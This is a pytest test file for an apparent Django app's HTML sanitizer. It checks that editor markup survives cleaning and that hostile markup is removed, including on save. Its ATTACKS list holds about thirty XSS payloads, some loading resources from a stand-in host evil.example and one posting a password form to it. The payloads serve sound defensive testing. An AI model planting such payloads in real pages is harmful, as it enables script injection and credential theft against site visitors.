"""Rich text: what the editor makes is kept, and whatever else comes along goes."""

import html5lib
import pytest
from hypothesis import given
from hypothesis import strategies as st

from recaps.models import Page, Recap
from recaps.prose import clean_prose, plain
from tests.factories import RecapFactory

KEPT = [
    "<p>It was <em>her</em>, and <strong>only</strong> her.<br>Again.</p>",
    "<h2>The lamp</h2><h3>The bulb</h3>",
    "<ul><li><p>one</p></li></ul><ol><li><p>two</p></li></ol>",
    "<blockquote><p>Who left it on?</p></blockquote><hr>",
    '<figure><img src="/media/pictures/abc/64.jpeg" alt="A lamp."><figcaption>Lit.</figcaption></figure>',
    "<p>대도시의 사랑법 &amp; 🌙</p>",
]
ATTACKS = [
    "<p title='</p><img src=x onerror=alert(1)>' lang=ko>titled</p>",
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<a href='javascript:alert(1)'>a</a>",
    "<a href='jAvAsCrIpT&colon;alert(1)'>a</a>",
    "<a href='java\tscript:alert(1)'>a</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>a</a>",
    "<a href='vbscript:msgbox(1)'>a</a>",
    "<p style='background:url(//evil.example)'>a</p>",
    "<p onclick=alert(1) onmouseover=alert(1)>a</p>",
    "<style>@import '//evil.example'</style>",
    "<link rel=stylesheet href=//evil.example><base href=//evil.example><meta http-equiv=refresh content=0>",
    "<form action=//evil.example><input name=password><button>Sign in</button></form>",
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<p id=discussion class=masthead>a</p>",
    "<video src=x onerror=alert(1)></video><audio autoplay src=//evil.example></audio>",
    "<details open ontoggle=alert(1)>",
    "<x-y onfocus=alert(1) tabindex=1>",
    "<b><script>alert(1)//</b>",
]
PLAIN = ["p", "br", "hr", "em", "strong", "h2", "h3", "ul", "li", "blockquote", "figure", "figcaption"]
ALLOWED = dict.fromkeys(PLAIN, frozenset())
ALLOWED |= {"ol": {"start", "type"}, "a": {"href", "rel", "title"}, "img": {"src", "alt", "title", "width", "height"}}


def assert_harmless(html):
    for element in html5lib.parseFragment(html, namespaceHTMLElements=False).iter():
        if element.tag == "DOCUMENT_FRAGMENT":
            continue
        assert element.tag in ALLOWED, element.tag
        assert set(element.attrib) <= ALLOWED[element.tag], element.attrib
        for address in (element.get("href", ""), element.get("src", "")):
            assert not address.lower().strip().startswith(("javascript", "data", "vbscript")), address


@pytest.mark.parametrize("html", KEPT)
def test_what_the_editor_makes_is_kept(html):
    assert clean_prose(html) == html
    assert clean_prose(clean_prose(html)) == clean_prose(html)


@pytest.mark.parametrize("size", ["short", "long"])
@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_is_taken_apart(attack, size):
    assert_harmless(clean_prose(f"<p>before</p>{attack}<p>after</p>", size))


@given(st.lists(st.sampled_from([*ATTACKS, *KEPT, "<", ">", '"', "'", "<!--", "-->", "\x00", "</p>"]), max_size=6))
def test_attacks_put_together_are_taken_apart_too(parts):
    once = clean_prose("".join(parts))
    assert_harmless(once)
    assert clean_prose(once) == once


@pytest.mark.django_db
@pytest.mark.parametrize("attack", ATTACKS)
def test_code_that_goes_around_the_form_is_cleaned_when_saved(attack):
    recap = RecapFactory(body=attack, standfirst=attack, editors_note=attack)
    stored = Recap.objects.get(pk=recap.pk)
    for html in (stored.body, stored.standfirst, stored.editors_note):
        assert_harmless(html)
    assert "<script" not in stored.body_html
    assert "<img" not in stored.body_html


@pytest.mark.django_db
@pytest.mark.parametrize("attack", ATTACKS)
def test_a_page_is_cleaned_when_saved_too(attack):
    page = Page.objects.create(title="Rules", slug="rules", body=attack)
    assert_harmless(Page.objects.get(pk=page.pk).body)


@pytest.mark.parametrize("html", ["", "<p></p>", "<p> </p><p><br></p>", "<h2></h2>", "<p>&nbsp;</p>"])
def test_nothing_but_empty_paragraphs_is_nothing(html):
    assert clean_prose(html) == ""


def test_plain_words_of_a_text():
    assert plain("<p>One&amp;two</p><p>three <em>four</em></p>") == "One&two three four"
